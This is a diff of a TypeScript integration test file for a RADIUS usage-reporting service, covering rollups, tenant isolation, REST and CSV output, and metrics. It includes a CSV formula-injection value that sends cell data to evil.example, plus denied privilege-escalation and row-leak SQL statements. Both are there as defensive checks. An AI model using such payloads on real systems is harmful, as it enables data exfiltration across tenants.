@@ -41,7 +41,8 @@ afterAll(async () => {
 });
 
 /** The tenant day of an instant, as the rollup computes it. */
-const dayIn = (tz: string, at: Date) => new Intl.DateTimeFormat('en-CA', { timeZone: tz, year: 'numeric', month: '2-digit', day: '2-digit' }).format(at);
+const dayIn = (tz: string, at: Date) =>
+  new Intl.DateTimeFormat('en-CA', { timeZone: tz, year: 'numeric', month: '2-digit', day: '2-digit' }).format(at);
 
 interface Packet {
   at: Date;
@@ -56,23 +57,41 @@ async function session(tenantId: string, nasId: string, username: string, packet
   const [first, ...rest] = packets;
   const [row] = await db('radacct')
     .insert({
-      tenant_id: tenantId, nas_id: nasId, acctsessionid: randomBytes(4).toString('hex'), acctuniqueid: randomBytes(16).toString('hex'),
-      username, nasipaddress: '127.0.0.1', acctstarttime: first!.at, acctupdatetime: first!.at,
-      acctsessiontime: first!.seconds, acctinputoctets: first!.input, acctoutputoctets: first!.output,
+      tenant_id: tenantId,
+      nas_id: nasId,
+      acctsessionid: randomBytes(4).toString('hex'),
+      acctuniqueid: randomBytes(16).toString('hex'),
+      username,
+      nasipaddress: '127.0.0.1',
+      acctstarttime: first!.at,
+      acctupdatetime: first!.at,
+      acctsessiontime: first!.seconds,
+      acctinputoctets: first!.input,
+      acctoutputoctets: first!.output,
     })
     .returning('radacctid');
   for (const p of rest) {
-    await db('radacct').where({ radacctid: row.radacctid }).update({
-      acctupdatetime: p.at, acctsessiontime: p.seconds, acctinputoctets: p.input, acctoutputoctets: p.output,
-      ...(p.stop ? { acctstoptime: p.at, acctterminatecause: 'User-Request' } : {}),
-    });
+    await db('radacct')
+      .where({ radacctid: row.radacctid })
+      .update({
+        acctupdatetime: p.at,
+        acctsessiontime: p.seconds,
+        acctinputoctets: p.input,
+        acctoutputoctets: p.output,
+        ...(p.stop ? { acctstoptime: p.at, acctterminatecause: 'User-Request' } : {}),
+      });
   }
   return Number(row.radacctid);
 }
 
 const usageRows = async (tenantId: string) =>
-  (await db.raw(`SELECT day::text AS day, username, input_octets::float8 AS i, output_octets::float8 AS o, session_seconds::float8 AS s, sessions::int AS n
-                 FROM reports.usage_daily WHERE tenant_id = ? ORDER BY day, username`, [tenantId])).rows;
+  (
+    await db.raw(
+      `SELECT day::text AS day, username, input_octets::float8 AS i, output_octets::float8 AS o, session_seconds::float8 AS s, sessions::int AS n
+                 FROM reports.usage_daily WHERE tenant_id = ? ORDER BY day, username`,
+      [tenantId],
+    )
+  ).rows;
 
 describe('the daily usage rollup', () => {
   it("splits a session that spans the tenant's midnight (not UTC's) at its interims", async () => {
@@ -89,7 +108,10 @@ describe('the daily usage rollup', () => {
       { day: '2026-11-29', username: user, i: 100, o: 10, s: 540, n: 1 },
       { day: '2026-11-30', username: user, i: 300, o: 60, s: 3660, n: 0 },
     ]);
-    const res = await request(api.app).get('/api/v1/reports/usage').query({ from: '2026-11-29', to: '2026-11-30', username: user }).set(a.auth);
+    const res = await request(api.app)
+      .get('/api/v1/reports/usage')
+      .query({ from: '2026-11-29', to: '2026-11-30', username: user })
+      .set(a.auth);
     expect(res.status).toBe(200);
     expect(res.body.timeZone).toBe(TZ);
     expect(res.body.rows.map((r: Record<string, unknown>) => [r.day, r.input_octets, r.total_octets])).toEqual([
@@ -129,7 +151,12 @@ describe('the daily usage rollup', () => {
       }
       let prev = { input: 0, output: 0, seconds: 0 };
       packets.forEach((p, idx) => {
-        add(dayIn(TZ, p.at), user, { i: p.input - prev.input, o: p.output - prev.output, s: p.seconds - prev.seconds, n: idx === 0 ? 1 : 0 });
+        add(dayIn(TZ, p.at), user, {
+          i: p.input - prev.input,
+          o: p.output - prev.output,
+          s: p.seconds - prev.seconds,
+          n: idx === 0 ? 1 : 0,
+        });
         prev = p;
       });
       await session(a.id, nasA, user, packets);
@@ -141,12 +168,18 @@ describe('the daily usage rollup', () => {
     expect(rows).toEqual(want);
     // And per user, over all days, exactly radacct's counters.
     const direct = (
-      await db.raw(`SELECT username, sum(acctinputoctets)::float8 AS i, sum(acctoutputoctets)::float8 AS o, sum(acctsessiontime)::float8 AS s, count(*)::int AS n
-                    FROM radacct WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`, [a.id, users])
+      await db.raw(
+        `SELECT username, sum(acctinputoctets)::float8 AS i, sum(acctoutputoctets)::float8 AS o, sum(acctsessiontime)::float8 AS s, count(*)::int AS n
+                    FROM radacct WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`,
+        [a.id, users],
+      )
     ).rows;
     const rolled = (
-      await db.raw(`SELECT username, sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n
-                    FROM usage_daily WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`, [a.id, users])
+      await db.raw(
+        `SELECT username, sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n
+                    FROM usage_daily WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`,
+        [a.id, users],
+      )
     ).rows;
     expect(rolled).toEqual(direct);
   });
@@ -156,22 +189,39 @@ describe('the daily usage rollup', () => {
     const user = `fn-${randomBytes(2).toString('hex')}`;
     const uid = randomBytes(8).toString('hex');
     const acct = (status: string, secs: number, input: number, output: number) =>
-      db.raw(`SELECT lango_acct_do(?, '127.0.0.1', ?, ?, 'sess-1', ?, '', '', '', '', 0, ?, ?, 0, ?, 1, '', '', '', '', '', '', '', '', '', '', '', '', '')`, [
-        status, ident, user, uid, secs, input, output,
-      ]);
+      db.raw(
+        `SELECT lango_acct_do(?, '127.0.0.1', ?, ?, 'sess-1', ?, '', '', '', '', 0, ?, ?, 0, ?, 1, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
+        [status, ident, user, uid, secs, input, output],
+      );
     await acct('Start', 0, 0, 0);
     await acct('Interim-Update', 60, 1000, 2000);
     await acct('Stop', 120, 5000, 9000);
     // A repeated Stop changes nothing.
     await acct('Stop', 120, 5000, 9000);
-    const rolled = (await db.raw(`SELECT sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n FROM usage_daily WHERE tenant_id = ? AND username = ?`, [b.id, user])).rows[0];
+    const rolled = (
+      await db.raw(
+        `SELECT sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n FROM usage_daily WHERE tenant_id = ? AND username = ?`,
+        [b.id, user],
+      )
+    ).rows[0];
     // Out-Gigawords 1: 2^32 + 9000.
     expect(rolled).toEqual({ i: 5000, o: 2 ** 32 + 9000, s: 120, n: 1 });
-    const r = (await db.raw(`SELECT acctinputoctets::float8 AS i, acctoutputoctets::float8 AS o FROM radacct WHERE acctuniqueid = ?`, [uid])).rows[0];
+    const r = (
+      await db.raw(
+        `SELECT acctinputoctets::float8 AS i, acctoutputoctets::float8 AS o FROM radacct WHERE acctuniqueid = ?`,
+        [uid],
+      )
+    ).rows[0];
     expect(r).toEqual({ i: rolled.i, o: rolled.o });
 
-    await db.raw(`SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-1', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`, [ident]);
-    await db.raw(`SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-2', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`, [ident]);
+    await db.raw(
+      `SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-1', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
+      [ident],
+    );
+    await db.raw(
+      `SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-2', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
+      [ident],
+    );
     const res = await request(api.app).get('/api/v1/reports/nas-health').set(b.auth);
     expect(res.status).toBe(200);
     const row = res.body.rows.find((x: { nas_id: string }) => x.nas_id === nasB);
@@ -231,12 +281,26 @@ describe('report roles', () => {
   it("sees its tenant's rows through the views, and only those", async () => {
     const mine = await c.query('SELECT DISTINCT tenant_id FROM usage_daily');
     expect(mine.rows).toEqual([{ tenant_id: a.id }]);
-    for (const view of ['usage_daily', 'usage_nas_daily', 'usage_monthly', 'top_users', 'active_sessions', 'auth_outcomes', 'auth_failures', 'nas_health', 'enforcement_outcomes']) {
+    for (const view of [
+      'usage_daily',
+      'usage_nas_daily',
+      'usage_monthly',
+      'top_users',
+      'active_sessions',
+      'auth_outcomes',
+      'auth_failures',
+      'nas_health',
+      'enforcement_outcomes',
+    ]) {
       const r = await c.query(`SELECT count(*)::int AS n FROM reports.${view} WHERE tenant_id <> $1`, [a.id]);
       expect([view, r.rows[0].n]).toEqual([view, 0]);
     }
-    expect((await c.query('SELECT count(*)::int AS n FROM reports.usage_daily WHERE tenant_id = $1', [b.id])).rows[0].n).toBe(0);
-    expect((await c.query(`SELECT count(*)::int AS n FROM reports.usage_daily WHERE username = 'b-secret-user'`)).rows[0].n).toBe(0);
+    expect(
+      (await c.query('SELECT count(*)::int AS n FROM reports.usage_daily WHERE tenant_id = $1', [b.id])).rows[0].n,
+    ).toBe(0);
+    expect(
+      (await c.query(`SELECT count(*)::int AS n FROM reports.usage_daily WHERE username = 'b-secret-user'`)).rows[0].n,
+    ).toBe(0);
     expect((await c.query('SELECT public.lango_report_tenants() AS t')).rows[0].t).toEqual([a.id]);
   });
 
@@ -245,7 +309,7 @@ describe('report roles', () => {
     ['SELECT * FROM public.usage_daily LIMIT 1', '42501'],
     ['SELECT * FROM public.report_roles', '42501'],
     ['SELECT * FROM public.tenants', '42501'],
-    ["UPDATE public.report_roles SET tenant_id = tenant_id", '42501'],
+    ['UPDATE public.report_roles SET tenant_id = tenant_id', '42501'],
     ['SET ROLE lango_test_app', '42501'],
     ['SET SESSION AUTHORIZATION lango_test_app', '42501'],
     ["CREATE FUNCTION reports.leak(uuid) RETURNS boolean LANGUAGE sql COST 0.0000001 AS 'SELECT true'", '42501'],
@@ -254,7 +318,10 @@ describe('report roles', () => {
     ['CREATE TABLE public.mine (x int)', '42501'],
     ['INSERT INTO public.report_roles (role_name, tenant_id) SELECT current_user, id FROM public.tenants', '42501'],
     ["SELECT public.lango_rad_value('x')", '42501'],
-    ["SELECT public.lango_acct_do('Accounting-On', '127.0.0.1', '', '', '', '', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')", '42501'],
+    [
+      "SELECT public.lango_acct_do('Accounting-On', '127.0.0.1', '', '', '', '', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')",
+      '42501',
+    ],
     ["SELECT * FROM public.lango_period_usage(gen_random_uuid(), 'x', gen_random_uuid(), now())", '42501'],
   ])('cannot: %s', async (sql, expected) => {
     expect(await code(sql)).toBe(expected);
@@ -286,7 +353,8 @@ describe('report roles', () => {
 });
 
 describe('REST', () => {
-  const get = (name: string, query: Record<string, string | number>, t = a) => request(api.app).get(`/api/v1/reports/${name}`).query(query).set(t.auth);
+  const get = (name: string, query: Record<string, string | number>, t = a) =>
+    request(api.app).get(`/api/v1/reports/${name}`).query(query).set(t.auth);
 
   it.each([
     [{ from: '2026-11-30', to: '2026-11-01' }, 'from'],
@@ -339,19 +407,27 @@ describe('REST', () => {
     const lines = res.text.split('\r\n');
     expect(lines[0]).toBe('username,subscriber_id,input_octets,output_octets,total_octets,session_seconds,sessions');
     expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,10,20,30,600,1`);
-    const accept = await request(api.app).get('/api/v1/reports/usage').query({ from: '2026-11-15', to: '2026-11-15', groupBy: 'user' }).set(a.auth).set('Accept', 'text/csv');
+    const accept = await request(api.app)
+      .get('/api/v1/reports/usage')
+      .query({ from: '2026-11-15', to: '2026-11-15', groupBy: 'user' })
+      .set(a.auth)
+      .set('Accept', 'text/csv');
     expect(accept.text).toBe(res.text);
     // An empty answer still has its header.
     const empty = await get('usage', { from: '2020-01-01', to: '2020-01-02', format: 'csv' });
     expect(empty.text).toBe('day,users,input_octets,output_octets,total_octets,session_seconds,sessions\r\n');
     const emptyUsers = await get('top-users', { from: '2020-01-01', to: '2020-01-02', format: 'csv' });
-    expect(emptyUsers.text).toBe('username,subscriber_id,input_octets,output_octets,total_octets,session_seconds,sessions\r\n');
+    expect(emptyUsers.text).toBe(
+      'username,subscriber_id,input_octets,output_octets,total_octets,session_seconds,sessions\r\n',
+    );
   });
 
   it("one tenant's API never answers with another's rows", async () => {
     const res = await get('usage', { from: '2026-09-01', to: '2026-12-31', groupBy: 'user' }, b);
     expect(res.status).toBe(200);
-    expect(res.body.rows.every((r: { username: string }) => !r.username.startsWith('rnd') && !r.username.startsWith('mid-'))).toBe(true);
+    expect(
+      res.body.rows.every((r: { username: string }) => !r.username.startsWith('rnd') && !r.username.startsWith('mid-')),
+    ).toBe(true);
   });
 
   it('every report answers for a tenant', async () => {
@@ -369,7 +445,9 @@ describe('/metrics', () => {
     const res = await request(api.app).get('/metrics');
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/plain/);
-    expect(res.text).toMatch(/lango_http_request_duration_seconds_count\{method="GET",route="\/api\/v1\/reports\/:name",status="200"\} \d+/);
+    expect(res.text).toMatch(
+      /lango_http_request_duration_seconds_count\{method="GET",route="\/api\/v1\/reports\/:name",status="200"\} \d+/,
+    );
     expect(res.text).not.toContain('route="/api/v1/reports/usage"');
     expect(res.text).toContain(`lango_radius_auth_attempts{tenant="${b.slug}",reply="Access-Reject"} 3`);
     expect(res.text).toContain(`lango_radius_auth_attempts{tenant="${b.slug}",reply="Access-Accept"} 1`);
@@ -378,12 +456,18 @@ describe('/metrics', () => {
   });
 
   it('needs its token when one is set, and is not served in production without one', async () => {
-    const app = (config: ReturnType<typeof appConfig>) => createApp({ db: tdb.appDb, services: api.services, config, logger: createLogger('silent') }).app;
+    const app = (config: ReturnType<typeof appConfig>) =>
+      createApp({ db: tdb.appDb, services: api.services, config, logger: createLogger('silent') }).app;
     const prodNoToken = app({ ...appConfig(testConfig()), production: true });
     expect((await request(prodNoToken).get('/metrics')).status).toBe(404);
-    const withToken = app({ ...appConfig(testConfig({ LANGO_METRICS_TOKEN: 'metrics-token-0123456789' })), production: true });
+    const withToken = app({
+      ...appConfig(testConfig({ LANGO_METRICS_TOKEN: 'metrics-token-0123456789' })),
+      production: true,
+    });
     expect((await request(withToken).get('/metrics')).status).toBe(401);
     expect((await request(withToken).get('/metrics').set('Authorization', 'Bearer wrong')).status).toBe(401);
-    expect((await request(withToken).get('/metrics').set('Authorization', 'Bearer metrics-token-0123456789')).status).toBe(200);
+    expect(
+      (await request(withToken).get('/metrics').set('Authorization', 'Bearer metrics-token-0123456789')).status,
+    ).toBe(200);
   });
 });
